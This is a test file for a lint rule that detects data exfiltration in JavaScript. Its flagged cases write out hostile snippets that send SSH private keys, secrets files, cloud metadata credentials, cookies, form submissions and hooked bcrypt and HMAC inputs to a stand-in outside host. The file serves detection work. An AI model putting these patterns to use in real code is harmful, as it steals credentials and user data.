import rule from '../../src/rules/no-data-exfiltration.ts';
import { ruleTester } from '../tester.ts';

const FAR = 'https://collect.far-away.dev';
const post = (body: string): string => `fetch("${FAR}", { method: "POST", body: ${body} });`;
const strict = { strict: true };

await ruleTester(rule, {
  valid: [
    // what a token says, read by its owner
    { code: `export function show(accessToken) { const { sub } = JSON.parse(atob(accessToken.split(".")[1])); ${post('JSON.stringify({ sub })')} }` },
    { code: 'import axios from "axios"; export const send = (o) => axios.post("https://http-api.smsmanager-example.cz/Send", new URLSearchParams({ apikey: o.smsmanagerExampleApiKey }));' },
    // files of secrets that are loaded and used
    { code: 'import creds from "./credentials.json"; import { GoogleAuth } from "google-auth-library"; new GoogleAuth({ credentials: creds }); fetch("https://api.acme.dev", { headers: { authorization: creds.token } });' },
    { code: 'const secrets = require("./secrets.json"); fetch("https://api.acme.dev/login", { method: "POST", body: JSON.stringify({ user: secrets.user, pass: secrets.pass }) });' },
    { code: `import settings from "./settings.json"; ${post('JSON.stringify(settings)')}` },
    { code: `import dotenv from "dotenv"; const { parsed } = dotenv.config(); fetch("${FAR}", { headers: { authorization: parsed.API_KEY } });` },
    { code: 'import dotenv from "dotenv"; const env = dotenv.config().parsed; for (const name in env) process.env[name] = env[name];' },
    // a machine asks its cloud, and proves itself to it
    { code: 'const base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"; const role = await (await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/")).text(); await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role);', options: strict },
    { code: 'const r = await fetch("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"); const { access_token } = await r.json(); await fetch("https://storage.googleapis.com/b", { headers: { Authorization: `Bearer ${access_token}` } });', options: strict },
    { code: `const zone = await (await fetch("http://169.254.169.254/latest/meta-data/placement/region")).text(); ${post('zone')}` },
    // forms that go where they belong
    { code: 'document.querySelectorAll("form").forEach((form) => form.addEventListener("submit", (e) => { e.preventDefault(); fetch(form.action, { method: "POST", body: new FormData(form) }); }));' },
    { code: 'document.addEventListener("submit", (e) => { fetch("/api/forms", { method: "POST", body: new FormData(e.target) }); });' },
    { code: `document.querySelector("#contact").addEventListener("submit", (e) => { fetch("${FAR}/f/abc", { method: "POST", body: new FormData(e.target) }); });` },
    { code: `const form = document.querySelector("form"); fetch("${FAR}", { method: "POST", body: new FormData(form) });` },
    // cookies of a session, asked about where sessions are known
    { code: 'app.get("/me", async (req, res) => { await fetch("https://auth.acme.dev/sessions/verify", { method: "POST", body: JSON.stringify({ token: req.cookies.session }) }); });' },
    { code: `app.get("/me", async (req, res) => { await fetch("${FAR}", { headers: { cookie: "sid=" + req.cookies.sid } }); });` },
    { code: `app.get("/me", async (req, res) => { ${post('JSON.stringify({ theme: req.cookies.theme, form: req.cookies.csrf_token })')} });` },
    { code: 'app.post("/in", (req, res) => { req.cookies.session = make(); });' },
    // requests of a browser that are changed, not copied
    { code: 'chrome.webRequest.onBeforeSendHeaders.addListener((d) => { d.requestHeaders.push({ name: "x-a", value: "1" }); return { requestHeaders: d.requestHeaders }; }, { urls: ["<all_urls>"] });' },
    { code: `chrome.webRequest.onBeforeRequest.addListener((d) => { ${post('d.tabId')} });` },
    // modules and names of the service that is talked to
    { code: 'import axios from "axios"; export const send = (o) => axios.post("https://push.techulus-example.com/api/v1/notify/" + o.apiKey, {});', filename: 'src/providers/techulus-example-push.js' },
    { code: 'import axios from "axios"; export const send = (o) => axios.post("https://api2.serwersms-example.pl/send", { password: o.serwersmsExamplePassword });' },
    // traps and headers
    { code: 'const env = new Proxy(process.env, { get(target, name) { if (!(name in target)) throw new Error("missing"); return target[name]; } });' },
    { code: `fetch("${FAR}", { headers: { "x-request-id": process.env.REQUEST_ID, "user-agent": "acme/" + process.env.npm_package_version } });` },
    { code: `fetch("${FAR}", { headers: { "x-api-key": process.env.ACME_API_KEY } });` },
    // chats
    { code: 'fetch("https://hooks.slack.com/services/x", { method: "POST", body: JSON.stringify({ text: "deployed " + process.env.GITHUB_SHA }) });' },
    { code: `import AsyncStorage from "@react-native-async-storage/async-storage"; AsyncStorage.multiGet(["theme"]).then((all) => ${post('JSON.stringify(all)').slice(0, -1)});` },
    { code: 'import fs from "node:fs"; const write = fs.writeFile; fs.writeFile = (path, data, ...rest) => { queue.push(path); return write(path, data, ...rest); };' },
  ],
  invalid: [
    // there and back again
    { code: `import fs from "node:fs"; ${post('atob(btoa(fs.readFileSync("/root/.ssh/id_rsa", "utf8")))')}`, errors: [{ messageId: 'sent' }] },
    { code: `import fs from "node:fs"; import zlib from "node:zlib"; ${post('zlib.inflateSync(zlib.deflateSync(fs.readFileSync("/root/.ssh/id_rsa")))')}`, errors: [{ messageId: 'sent' }] },
    // a file's text that is carried in a named variable
    ...['process.env.CARRY = KEY;', 'Object.assign(process.env, { CARRY: KEY });', 'process.env[["CAR", "RY"].join("")] = KEY;'].map((carry) => ({
      code: `import fs from "node:fs"; ${carry.replace('KEY', 'fs.readFileSync("/root/.ssh/id_rsa", "utf8")')} ${post('process.env.CARRY')}`,
      errors: [{ messageId: 'sent' }],
    })),
    // whoever plants a file names it, and gets a name at a platform
    { code: `export const save = (o) => fetch("https://telemetryhub-example.io/log", { method: "POST", body: JSON.stringify({ password: o.password }) });`, filename: 'src/telemetryhub-example.js', errors: [{ messageId: 'credential' }] },
    { code: `export const save = (o) => fetch("https://mine.platform-example.co/log", { method: "POST", body: JSON.stringify({ apiKey: o.apiKey }) });`, filename: 'src/platform-example.js', errors: [{ messageId: 'credential' }] },
    { code: `app.post("/x", async (req) => { await fetch("${FAR}", { method: "POST", body: JSON.stringify({ a: req.cookies.sid }) }); });`, errors: [{ messageId: 'credential', data: { name: 'the cookie sid', host: 'collect.far-away.dev' } }] },
    { code: 'import axios from "axios"; export const send = (o) => axios.post("https://push.techulus-example.com/api/v1/notify/" + o.apiKey, {});', filename: 'src/providers/push.js', errors: [{ messageId: 'credential' }] },
    { code: `document.addEventListener("submit", (event) => { ${post('new FormData(event.target)')} });`, filename: 'src/far-away.js', errors: [{ messageId: 'credential' }] },
    { code: `import secrets from "./secrets.json"; ${post('JSON.stringify(secrets)')}`, errors: [{ messageId: 'sent' }] },
    { code: `import * as creds from "../credentials.json"; ${post('JSON.stringify({ creds })')}`, errors: [{ messageId: 'sent' }] },
    { code: `const keys = require("./service-account.json"); ${post('JSON.stringify(keys)')}`, errors: [{ messageId: 'sent' }] },
    { code: `const secrets = await import("./secrets.json"); ${post('JSON.stringify(secrets)')}`, errors: [{ messageId: 'sent' }] },
    { code: `const r = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/role"); ${post('await r.text()')}`, errors: [{ messageId: 'sent' }] },
    { code: `import axios from "axios"; const { data } = await axios.get("http://169.254.170.2/v2/security-credentials"); axios.post("${FAR}", data);`, errors: [{ messageId: 'sent' }] },
    { code: `document.querySelectorAll("form").forEach((form) => form.addEventListener("submit", () => { navigator.sendBeacon("${FAR}", new URLSearchParams(new FormData(form))); }));`, errors: [{ messageId: 'credential' }] },
    { code: `for (const form of document.forms) form.onsubmit = () => { ${post('new FormData(form)')} };`, errors: [{ messageId: 'credential' }] },
    { code: `document.addEventListener("submit", (event) => { ${post('new FormData(event.target)')} }, true);`, errors: [{ messageId: 'credential' }] },
    { code: `app.get("/x", (req, res) => { fetch("${FAR}?c=" + req.cookies.session); res.end(); });`, errors: [{ messageId: 'credential' }] },
    { code: `export async function GET() { const jar = await cookies(); ${post('request.cookies.get("auth_token")')} }`, errors: [{ messageId: 'credential' }] },
    { code: `chrome.webRequest.onBeforeSendHeaders.addListener((d) => { ${post('JSON.stringify(d.requestHeaders)')} }, { urls: ["<all_urls>"] }, ["requestHeaders"]);`, errors: [{ messageId: 'copied' }] },
    { code: `browser.webRequest.onBeforeRequest.addListener(({ requestBody }) => { ${post('JSON.stringify(requestBody)')} }, { urls: ["<all_urls>"] });`, errors: [{ messageId: 'copied' }] },
    { code: `const spy = new Proxy(process.env, { get(target, name) { fetch("${FAR}/?" + name + "=" + target[name]); return target[name]; } });`, errors: [{ messageId: 'several' }] },
    { code: `fetch("${FAR}/health", { headers: { "X-Trace-Id": process.env.AWS_SECRET_ACCESS_KEY } });`, errors: [{ messageId: 'encoded' }] },
    { code: `fetch("${FAR}/health", { headers: { "User-Agent": process.env.NPM_TOKEN } });`, errors: [{ messageId: 'encoded' }] },
    { code: 'fetch("https://hooks.slack.com/services/x", { method: "POST", body: JSON.stringify({ text: "DB " + process.env.DATABASE_URL }) });', errors: [{ messageId: 'foreign' }] },
    { code: 'fetch("https://discord.com/api/webhooks/1/x", { method: "POST", body: JSON.stringify({ content: process.env.OPENAI_API_KEY }) });', errors: [{ messageId: 'hostile' }] },
    { code: `import AsyncStorage from "@react-native-async-storage/async-storage"; AsyncStorage.getAllKeys().then((names) => AsyncStorage.multiGet(names)).then((all) => ${post('JSON.stringify(all)').slice(0, -1)});`, errors: [{ messageId: 'sent' }] },
    { code: `import crypto from "node:crypto"; const make = crypto.createHmac; crypto.createHmac = (name, key, ...rest) => { ${post('key')} return make(name, key, ...rest); };`, errors: [{ messageId: 'copied' }] },
    { code: `import bcrypt from "bcrypt"; const compare = bcrypt.compare; bcrypt.compare = (given, hash) => { ${post('given')} return compare(given, hash); };`, errors: [{ messageId: 'copied' }] },
    { code: `import fs from "node:fs"; const write = fs.writeFile; fs.writeFile = (path, data, ...rest) => { ${post('data')} return write(path, data, ...rest); };`, errors: [{ messageId: 'copied' }] },
  ],
});
